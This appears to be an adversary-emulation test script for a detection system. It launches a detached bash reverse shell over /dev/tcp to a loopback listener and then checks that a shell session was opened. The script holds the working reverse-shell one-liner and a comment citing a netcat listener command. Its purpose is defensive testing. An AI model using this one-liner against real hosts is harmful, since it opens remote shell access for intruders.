# technique: T1095
# tactic: command-and-control
# name: Detached bash reverse shell over raw TCP (/dev/tcp) to a loopback handler
# expect: detected
. "$EMULATION_LIB"
need bash setsid python3
loopback_up
# An interactive bash writes ~/.bash_history when it exits: /root is an empty private tmpfs here.
private_tmpfs /root
# The operator's handler (what `nc -lvnp 4444` does): the one-shot loopback listener of lib.sh.
# The implant side is the classic one-liner, detached with setsid so it survives the web request
# or session that started it.
attacker_listener
setsid bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" </dev/null >/dev/null 2>&1 || true
wait "$listener" || true
grep -q 'uid=' session.log
